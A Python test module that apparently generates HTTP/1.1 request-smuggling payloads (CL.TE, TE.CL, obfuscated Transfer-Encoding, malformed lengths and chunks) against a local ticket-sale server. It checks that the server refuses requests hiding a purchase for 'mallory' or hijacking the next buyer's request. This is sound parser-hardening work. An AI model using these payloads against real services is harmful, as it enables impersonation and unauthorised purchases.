"""Requests that try to be two: each hides a purchase where one reader may see a body and another one a request.

A payload is one request, and whoever reads HTTP/1.1 as RFC 9112 says sees one in it (after `before` honest
ones), or refuses it. The purchase in it would be seen only by a reader who takes a wrong length for its body:

- whole: a purchase in the sale "marker" for mallory;
- prefix: the beginning of one, which makes a header of the request line of whoever comes next on the
  connection, and so buys in that buyer's name.

``python -m tests.faults.smuggling`` prints them all.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from itertools import chain
from typing import Final

HOST: Final = b"Host: 127.0.0.1"
START: Final = b"POST /buy/ticket HTTP/1.1"
CHUNKED: Final = b"Transfer-Encoding: chunked"

WHOLE: Final = (
    b"POST /v1/sales/marker/reservations HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Buyer: mallory\r\nContent-Length: 17\r\n\r\n"
    b'{"item":"second"}'
)
PREFIX: Final = b"POST /v1/sales/marker/reservations HTTP/1.1\r\nX-Next: "
HIDDEN: Final = {"whole": WHOLE, "prefix": PREFIX}

HONEST: Final = (
    b"POST /v1/sales/honest/reservations HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Buyer: ada\r\nContent-Length: 17\r\n\r\n"
    b'{"item":"second"}'
)

Build = Callable[[bytes], bytes]
"""From what is hidden to the whole request."""


@dataclass(frozen=True)
class Payload:
    """One attack; `before` honest purchases stand in front of it."""

    family: str
    name: str
    data: bytes
    before: int = 0

    @property
    def has_body(self) -> bool:
        """Whether an answer to it has a body."""
        return not self.data.startswith(b"HEAD")

    def __str__(self) -> str:
        return f"{self.family}: {self.name}: {self.data!r}"


def message(*lines: bytes, body: bytes, start: bytes = START, host: bytes = HOST) -> bytes:
    """A request of these lines."""
    return b"\r\n".join([start, *([host] if host else []), *lines, b"", b""]) + body


def length(body: bytes) -> bytes:
    return b"Content-Length: %d" % len(body)


def chunk(body: bytes) -> bytes:
    """The whole chunked body."""
    return b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body)


# --- the shapes of a doubtful Transfer-Encoding ---------------------------------------------------


def cl_te(line: bytes, hidden: bytes) -> bytes:
    """The length covers what is hidden; who believes in chunks sees the end before it."""
    body = b"0\r\n\r\n" + hidden
    return message(length(body), line, body=body)


def te_cl(line: bytes, hidden: bytes) -> bytes:
    """The chunk covers what is hidden; who believes in the length sees the end before it."""
    return message(line, length(b"%x\r\n" % len(hidden)), body=chunk(hidden))


def te_0(line: bytes, hidden: bytes) -> bytes:
    """Only chunks, which end before it."""
    return message(line, body=b"0\r\n\r\n" + hidden)


def te_none(line: bytes, hidden: bytes) -> bytes:
    """Neither a length nor chunks."""
    return message(line, body=hidden)


SHAPES: Final = {"CL.TE": cl_te, "TE.CL": te_cl, "TE": te_0, "TE, no chunk": te_none}

TE_GOOD: Final = (
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: CHUNKED",
    b"Transfer-Encoding: cHuNkEd",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:   chunked",
    b"Transfer-Encoding: chunked \t ",
    b"TRANSFER-ENCODING: chunked",
    b"transfer-encoding: chunked",
)
"""Each says chunked, so beside a length it is one of two."""

_TE_VALUES: Final = (
    b"chunked, identity|identity, chunked|chunked,identity|gzip, chunked|chunked, gzip|chunked, chunked|chunked,|"
    b',chunked|chunked;|chunked;q=1|xchunked|chunkedx|chunked x|chunked chunked|chun ked|chunke|"chunked"|'
    b"'chunked'|[chunked]|chunked\x0b|\x0bchunked|\x0cchunked|chunked\x0c|chunked\x00|\x00chunked|chunked\x7f|"
    b"\xa0chunked|chunked\x85|\xef\xbb\xbfchunked|chun\xc4\xb8ed|identity|cow|0||\r\n chunked|\r\n\tchunked|"
    b"x\r\n chunked|chunked\r\n , identity|chu\r\n nked|c\rhunked|chunked\r|\rchunked|"
    b"identity\rTransfer-Encoding: chunked"
).split(b"|")

_TE_LINES: Final = (
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"Transfer-Encoding\x0b: chunked",
    b"Transfer-Encoding\0: chunked",
    b"\0Transfer-Encoding: chunked",
    b"Transfer Encoding: chunked",
    b"Transfer-Encoding;: chunked",
    b"(Transfer-Encoding): chunked",
    b"Transfer\xadEncoding: chunked",
    b"\xefTransfer-Encoding: chunked",
    b":Transfer-Encoding: chunked",
    b"Transfer-Encoding chunked",
    b"Transfer-Encoding",
    b"Transfer-Encoding\r\n: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\r\r\nTransfer-Encoding: chunked",
    b"X: y\n\rTransfer-Encoding: chunked",
    b"X: y\0\r\nTransfer-Encoding: chunked",
    b"X\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\ntransfer-encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: gzip\r\nTransfer-Encoding: chunked",
)

TE_BAD: Final = (*(b"Transfer-Encoding: " + value for value in _TE_VALUES), *_TE_LINES)
"""None of them says chunked and nothing but that."""

TE_OTHER: Final = (
    b"Transfer_Encoding: chunked",
    b"X-Transfer-Encoding: chunked",
    b"Transfer-Encodin: chunked",
    b"Transfer-Encodings: chunked",
    b"TE: chunked",
    b"TE: trailers, chunked;q=0.5",
    b"Content-Encoding: chunked",
    b"Trailer: Transfer-Encoding",
)
"""Headers that say nothing about the length: the Content-Length beside them counts."""

# --- lengths: %d is the length of what is hidden ----------------------------------------------------

LENGTHS: Final = (
    b"+%d|-%d|--%d|0x%x|%dx|%d.0|%d.|%de0|%d;|%d,%d|%d, %d|%d,0|0,%d|%d,|,%d|%d %d|0 %d|%d 0|%d_|0_%d|'%d'|\"%d\"|"
    b"%d\x0b|\x0b%d|\x0c%d|%d\0|\0%d|%d\x7f|\xa0%d|%d\xa0|%d\xb2|\xd9\xa3|NaN|inf||-0|+0|0x0|-1|"
    b"\r\n %d|0\r\n %d|%d\r\n 0|\r\n\t%d|%d\r|\r%d|4294967296|4294967297|9223372036854775808|18446744073709551616|"
    b"18446744073709551617|340282366920938463463374607431768211456|" + b"9" * 40
).split(b"|")
"""None of them is a length, or one that is too large for anybody."""

LENGTHS_GOOD: Final = (b"0%d", b"0" * 20 + b"%d", b"  %d", b"\t%d", b"%d  ", b"%d\t")

TWO_LENGTHS: Final = (
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: %d\r\nContent-Length: %d",
    b"Content-Length: %d\r\ncontent-length: 1",
    b"CONTENT-LENGTH: 1\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: +%d",
    b"Content-Length: %d\r\nContent-Length:",
    b"Content-Length:\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0%d",
    b"Content-Length: %d\r\nX: y\r\nContent-Length: 0",
    b"Content-Length: 0\r\n Content-Length: %d",
    b"Content-Length: %d\r\nContent-Length : 0",
    b"Content-Length : %d\r\nContent-Length: 0",
    b"Content-Length: %d\nContent-Length: 0",
    b"Content-Length: %d\rContent-Length: 0",
    b"Content-Length: %d\0\r\nContent-Length: 0",
    b"Content-Length: %d\r\nContent_Length: 0",
    b"Content-Length: %d\r\nX-Content-Length: 0",
    b"Content-Length: %d\r\nContent-Length-: 0",
)

LENGTH_LINES: Final = (
    b"Content-Length : %d",
    b"Content-Length\t: %d",
    b"Content-Length\x0b: %d",
    b"Content-Length\0: %d",
    b" Content-Length: %d",
    b"\tContent-Length: %d",
    b"Content Length: %d",
    b"Content-Length %d",
    b"Content-Length=%d",
    b"Content-Length;: %d",
    b'"Content-Length": %d',
    b"Content-Length\r\n : %d",
    b"Content-Length\r\n: %d",
    b"\xefContent-Length: %d",
    b"Content\xadLength: %d",
    b"X: y\r\n Content-Length: %d",
    b"X: y\nContent-Length: %d",
    b"X: y\rContent-Length: %d",
    b"X: y\r\r\nContent-Length: %d",
    b"X: y\0\r\nContent-Length: %d",
    b"X\nContent-Length: %d",
    b"X\r\nContent-Length: %d",
)

# --- header lines beside a good length ----------------------------------------------------------------

BESIDE: Final = (
    b"X: a\x00b|X: a\rb|X: a\nb|X: a\x7fb|X: a\x0bb|X: a\x01b|X\x00: a|X y: a|X\x7f: a|: a|X|=: a|X: a\r\n b|"
    b"X: a\r\n\tb|X@y: a|X{}: a|\xc3\xa4: a|X: \xc3\xa4|Connection: close|Connection: close, keep-alive|"
    b"Connection: keep-alive, close|Connection: content-length|Connection: transfer-encoding|Connection: host|"
    b"Connection: close\r\nConnection: keep-alive|Connection: \x00|Proxy-Connection: keep-alive|"
    b"Keep-Alive: timeout=5, max=1000|Connection: Upgrade\r\nUpgrade: websocket|"
    b"Connection: Upgrade\r\nUpgrade: h2c|Upgrade: h2c|"
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk|"
    b"Connection: upgrade\r\nUpgrade: TLS/1.0|"
    b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13|"
    b"Expect: 100-continue|Expect: 100-Continue|Expect:100-continue|Expect: 100-continue, x|Expect: 200-ok|"
    b"Expect: |Expect: 100-continue\r\nExpect: 100-continue|Expect : 100-continue|Host: other|Host : other|"
    b"X-HTTP-Method-Override: GET|X-Original-URL: /v1/sales/marker/reservations|Max-Forwards: 0"
).split(b"|")

HOSTS: Final = (
    b"",
    b"Host:",
    b"Host: a b",
    b"Host: a\0b",
    b"Host: a, b",
    b" Host: 127.0.0.1",
    b"Host 127.0.0.1",
    b"host:127.0.0.1",
)

# --- chunks: {h} is what is hidden, {x} its length in hexadecimal, {e} a good end ----------------------------

CHUNKS: Final = (
    b"0x{x}\r\n{h}{e}|-{x}\r\n{h}{e}|+{x}\r\n{h}{e}| {x}\r\n{h}{e}|{x} \r\n{h}{e}|{x}\t\r\n{h}{e}|"
    b"{x}\x0b\r\n{h}{e}|{x}\x00\r\n{h}{e}|{x}_\r\n{h}{e}|{x}g\r\n{h}{e}|{x},{x}\r\n{h}{e}|{x} {x}\r\n{h}{e}|"
    b"0{x}\r\n{h}{e}|\r\n{x}\r\n{h}{e}|{x}\n{h}{e}|{x}\r{h}{e}|{x}\r\r\n{h}{e}|{x}\n\r\n{h}{e}|{x};\n{h}{e}|"
    b'{x};a=b\n{h}{e}|{x};a\rb\r\n{h}{e}|{x};a\x00\r\n{h}{e}|{x};a="b\nc"\r\n{h}{e}|{x};a="b\r\nc"\r\n{h}{e}|'
    b"{x};;;\r\n{h}{e}|{x} ;a\r\n{h}{e}|{x};a=b\r\n{h}{e}|{x}\r\n{h}0\r\n\r\n|{x}\r\n{h}\n0\r\n\r\n|"
    b"{x}\r\n{h}\r0\r\n\r\n|{x}\r\n{h}xx0\r\n\r\n|{x}\r\n{h}\r{e}|1\r\n{h}{e}|\r\n{h}{e}|{h}|ffffffff\r\n{h}{e}|"
    b"7fffffffffffffff\r\n{h}{e}|ffffffffffffffff\r\n{h}{e}|fffffffffffffffff\r\n{h}{e}|10000000000000000\r\n{h}|"
    b"100000000\r\n{h}|-0\r\n\r\n{h}|-1\r\n\r\n{h}|0x0\r\n\r\n{h}|+0\r\n\r\n{h}| 0\r\n\r\n{h}|0_0\r\n\r\n{h}|"
    b"0\x00\r\n\r\n{h}|0\x0b\r\n\r\n{h}|0;\n\r\n{h}|0\n\n{h}|0\n\r\n{h}|0\r\n\n{h}|0\r\r{h}|0\r\n\r{h}|0\r\n{h}|"
    b"0\r\n\x00\r\n\r\n{h}|0g\r\n\r\n{h}|g\r\n\r\n{h}|0\r\n : a\r\n\r\n{h}|0\r\nX a\r\n\r\n{h}|0\r\n:\r\n\r\n{h}|"
    b"{x}\r\n{h}\r\n0\r\nContent-Length: 40\r\n\r\n|{x}\r\n{h}\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n|"
    b"{x}\r\n{h}\r\n0\r\nContent-Length: 0\r\n\r\n|{x}\r\n{h}\r\n0\r\nTransfer-Encoding: identity\r\n\r\n|"
    b"{x}\r\n{h}\r\n0\r\nHost: other\r\n\r\n|{x}\r\n{h}\r\n0\r\nConnection: close\r\n\r\n|"
    b"{x}\r\n{h}\r\n0\r\nExpect: 100-continue\r\n\r\n|"
    b"{x}\r\n{h}\r\n0\r\nUpgrade: h2c\r\nConnection: upgrade\r\n\r\n|{x}\r\n{h}\r\n0\r\nX-Buyer: mallory\r\n\r\n|"
    b"{x}\r\n{h}\r\n0\r\nX: {h}\r\n\r\n|{x}\r\n{h}\r\n0\r\nX: a\nY: b\r\n\r\n|{x}\r\n{h}\r\n0\r\nX : a\r\n\r\n|"
    b"{x}\r\n{h}\r\n0\r\n X: a\r\n\r\n"
).split(b"|")

# --- request lines before a good length ---------------------------------------------------------------

STARTS: Final = (
    b"POST http://127.0.0.1/buy/ticket HTTP/1.1|POST http://other/buy/ticket HTTP/1.1|POST  /buy/ticket HTTP/1.1|"
    b"POST /buy/ticket  HTTP/1.1|POST\t/buy/ticket\tHTTP/1.1|POST /buy/ticket HTTP/1.1 |"
    b"POST /buy/ticket HTTP/1.1\t|POST /buy/ticket\x0bHTTP/1.1|POST\x0c/buy/ticket HTTP/1.1|"
    b" POST /buy/ticket HTTP/1.1|\r\nPOST /buy/ticket HTTP/1.1|\nPOST /buy/ticket HTTP/1.1|"
    b"\rPOST /buy/ticket HTTP/1.1|\x00POST /buy/ticket HTTP/1.1|\xef\xbb\xbfPOST /buy/ticket HTTP/1.1|"
    b"POST /buy/ticket HTTP/1.0|POST /buy/ticket HTTP/0.9|POST /buy/ticket HTTP/1.2|POST /buy/ticket HTTP/2.0|"
    b"POST /buy/ticket HTTP/1.10|POST /buy/ticket HTTP/01.1|POST /buy/ticket HTTP/1|POST /buy/ticket HTTP/1.|"
    b"POST /buy/ticket HTTP/11|POST /buy/ticket http/1.1|POST /buy/ticket HTTP/1.1x|POST /buy/ticket HTTP 1.1|"
    b"POST /buy/ticket HTTP/1.1\x00|POST /buy/ticket HTTP/-1.1|POST /buy/ticket RTSP/1.0|"
    b"POST /buy/ticket RTSP/1.1|POST /buy/ticket ICE/1.0|SOURCE /buy/ticket ICE/1.0|POST /buy/ticket|"
    b"GET /buy/ticket|POST|post /buy/ticket HTTP/1.1|PoST /buy/ticket HTTP/1.1|POST\x00 /buy/ticket HTTP/1.1|"
    b"P OST /buy/ticket HTTP/1.1|POST /buy\x00/ticket HTTP/1.1|POST /buy\r/ticket HTTP/1.1|"
    b"POST /buy\n/ticket HTTP/1.1|POST /buy/ticket\x7f HTTP/1.1|POST /buy/ticket#x HTTP/1.1|"
    b"POST /buy/ticket?x HTTP/1.1|POST buy/ticket HTTP/1.1|POST //buy/ticket HTTP/1.1|"
    b"POST /buy/ticket HTTP/1.1 HTTP/1.1|POST /buy/ticket x HTTP/1.1|POST /buy/ticket%0d%0aX: HTTP/1.1|"
    b"POST * HTTP/1.1|POST /buy/ticket HTTP/1.1\n|POST /buy/ticket HTTP/1.1\r|GET /buy/ticket HTTP/1.1|"
    b"HEAD /buy/ticket HTTP/1.1|PUT /buy/ticket HTTP/1.1|DELETE /buy/ticket HTTP/1.1|OPTIONS /buy/ticket HTTP/1.1|"
    b"OPTIONS * HTTP/1.1|TRACE /buy/ticket HTTP/1.1|PATCH /buy/ticket HTTP/1.1|CONNECT 127.0.0.1:80 HTTP/1.1|"
    b"CONNECT /buy/ticket HTTP/1.1|PRI * HTTP/2.0|M-SEARCH /buy/ticket HTTP/1.1|XYZ /buy/ticket HTTP/1.1|"
    b"QUERY /buy/ticket HTTP/1.1|GET /healthz HTTP/1.1|POST /v1/sales/marker HTTP/1.1"
).split(b"|")


def _length_line(line: bytes, hidden: bytes) -> bytes:
    return message(_filled(line, hidden), body=hidden)


def _before_length(line: bytes, hidden: bytes) -> bytes:
    return message(line, length(hidden), body=hidden)


def _after_length(line: bytes, hidden: bytes) -> bytes:
    return message(length(hidden), line, body=hidden)


def _with_chunks(line: bytes, hidden: bytes) -> bytes:
    return message(line, CHUNKED, body=chunk(hidden))


def _of_host(host: bytes, hidden: bytes) -> bytes:
    return message(length(hidden), body=hidden, host=host)


def _start_length(start: bytes, hidden: bytes) -> bytes:
    return message(length(hidden), body=hidden, start=start)


def _start_chunks(start: bytes, hidden: bytes) -> bytes:
    return message(CHUNKED, body=chunk(hidden), start=start)


def _filled(line: bytes, hidden: bytes) -> bytes:
    return line.replace(b"%d", b"%d" % len(hidden)).replace(b"%x", b"%x" % len(hidden))


def _chunks(form: bytes, hidden: bytes) -> bytes:
    body = form.replace(b"{x}", b"%x" % len(hidden)).replace(b"{e}", b"\r\n0\r\n\r\n").replace(b"{h}", hidden)
    return message(CHUNKED, body=body)


def _of_coding() -> Iterator[tuple[str, bytes, Build]]:
    for line in TE_GOOD:
        yield "CL.TE", line, partial(cl_te, line)
        yield "TE.CL", line, partial(te_cl, line)
    for line in TE_BAD:
        for shape, build in SHAPES.items():
            yield f"TE.TE {shape}", line, partial(build, line)
    for line in TE_OTHER:
        yield "no TE", line, partial(cl_te, line)
    for form in CHUNKS:
        yield "chunks", form, partial(_chunks, form)


def _of_length() -> Iterator[tuple[str, bytes, Build]]:
    for value in (*LENGTHS, *LENGTHS_GOOD):
        yield "length", value, partial(_length_line, b"Content-Length: " + value)
    for line in TWO_LENGTHS:
        yield "CL.CL", line, partial(_length_line, line)
    for line in LENGTH_LINES:
        yield "length line", line, partial(_length_line, line)


def _of_others() -> Iterator[tuple[str, bytes, Build]]:
    for line in BESIDE:
        yield "header before length", line, partial(_before_length, line)
        yield "header after length", line, partial(_after_length, line)
        yield "header and chunks", line, partial(_with_chunks, line)
    for host in HOSTS:
        yield "host", host, partial(_of_host, host)
    for start in STARTS:
        yield "start, length", start, partial(_start_length, start)
        yield "start, chunks", start, partial(_start_chunks, start)


def payloads() -> list[Payload]:
    """All of them, each different from every other."""
    made: dict[bytes, Payload] = {}
    for family, what, build in chain(_of_coding(), _of_length(), _of_others()):
        for kind, hidden in HIDDEN.items():
            payload = Payload(family, f"{what!r}, {kind}", build(hidden))
            made.setdefault(payload.data, payload)
    for payload in list(made.values())[::9]:
        behind = Payload(f"behind others: {payload.family}", payload.name, HONEST * 2 + payload.data, 2)
        made[behind.data] = behind
    return list(made.values())


if __name__ == "__main__":
    for each in payloads():
        print(each)
    print(Counter(each.family for each in payloads()))
